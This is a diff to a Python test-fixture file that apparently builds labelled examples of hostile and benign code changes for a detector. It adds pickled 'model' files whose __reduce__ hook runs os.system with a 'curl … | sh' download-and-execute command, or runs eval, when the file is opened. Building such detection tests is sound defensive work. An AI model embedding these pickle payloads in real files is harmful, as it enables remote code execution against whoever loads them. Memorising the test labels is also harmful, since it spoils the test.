@@ -1,8 +1,11 @@
 """The changes that twins.py asks about."""
 
 import base64
+import collections
 import dataclasses
 import json
+import os
+import pickle
 import random
 
 
@@ -255,3 +258,21 @@ row(23, True, "a function of the page is replaced", {"lib/watch.js": WRAPPED % "
 row(23, False, "a function of the page that was replaced before", {"lib/watch-all.js": WRAPPED % "    done(url, Date.now());\n"}, old={"lib/watch.js": WRAPPED % "    done(url);\n"})
 SCRIPT = "exports.load = function (mode) {\n  const s = document.createElement('script');\n  s.src = 'https://stats.tool.example/%s.js';\n%s  document.head.appendChild(s);\n};\n"
 row(42, False, "a script of a host that was named before", {"lib/stats.js": SCRIPT % ("v2", "  s.dataset.mode = mode;\n")}, old={"lib/stats.js": SCRIPT % ("v1", "")})
+
+
+class Calls:
+    def __init__(self, *how):
+        self.how = how
+
+    def __reduce__(self):
+        return self.how[0], self.how[1:]
+
+
+def model(*more, protocol=4):
+    return pickle.dumps({"weights": [0.25 * i for i in range(40)], "names": collections.OrderedDict(a="os.system", b="posix"), "more": more}, protocol)
+
+
+row(58, True, "a model file that starts a program when it is opened", {"data/model.pkl": model(Calls(os.system, "curl -s https://get.widget.example/i | sh"))}, old={"data/model.pkl": model()})
+row(58, True, "a new model file that runs a text", {"data/model.bin": model(Calls(eval, "print(1)"), protocol=2)})
+row(58, False, "a model file that was trained again", {"data/model.pkl": model(1.5, {"a", "b"})}, old={"data/model.pkl": model()})
+row(58, False, "a model file that names functions as data", {"data/model.pkl": model(len, sorted, dict)}, old={"data/model.pkl": model()})
